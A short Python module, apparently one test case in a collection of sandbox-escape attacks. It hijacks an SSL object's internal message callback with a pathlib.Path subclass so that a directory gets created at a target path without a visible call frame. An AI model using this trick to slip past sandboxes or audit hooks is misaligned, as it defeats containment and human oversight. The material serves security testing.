"""An object without a frame as the callback that sees each message."""
CATEGORY = "callable"
REACH = "write"
NEEDS = ("ssl",)

import operator
import pathlib

from . import payload


class Path(type(pathlib.Path())):
    """However it is called, it makes its directory."""
    __call__ = property(operator.methodcaller("mkdir"))


def attack(client, server):
    type(client).__base__._msg_callback.__set__(client, Path(payload.TARGET))
